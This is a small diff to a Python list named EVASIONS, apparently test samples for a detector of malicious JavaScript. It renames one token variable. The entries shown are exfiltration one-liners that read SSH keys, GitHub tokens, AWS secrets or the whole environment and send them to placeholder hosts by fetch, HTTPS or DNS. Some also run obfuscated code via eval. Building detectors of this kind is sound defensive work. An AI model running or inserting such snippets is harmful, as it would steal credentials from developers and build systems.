@@ -190,7 +190,7 @@ EVASIONS = [
     "const t=setTimeout; t('go('+x+')')",
     "eval(require('zlib').inflateSync(Buffer.from(x,'base64')).toString())",
     "const d=require('fs').readFileSync('/root/.ssh/id_rsa');require('https').request({hostname:'x.invalid'}).end(d)",
-    "class S{constructor(k){this.k=k} go(){fetch('http://x.invalid',{body:this.k})}}; new S(process.env.GITHUB_TOKEN).go()",
+    "class S{constructor(k){this.k=k} go(){fetch('http://x.invalid',{body:this.k})}}; new S(process.env.GH_TOKEN).go()",
     "const e={...process.env}; fetch('http://x.invalid',{method:'POST',body:JSON.stringify(e)})",
     "let b=''; for (const [k,v] of Object.entries(process.env)) b+=k+v; require('https').get('http://x.invalid/?'+b)",
     "require('dns').lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex')+'.example.invalid')",
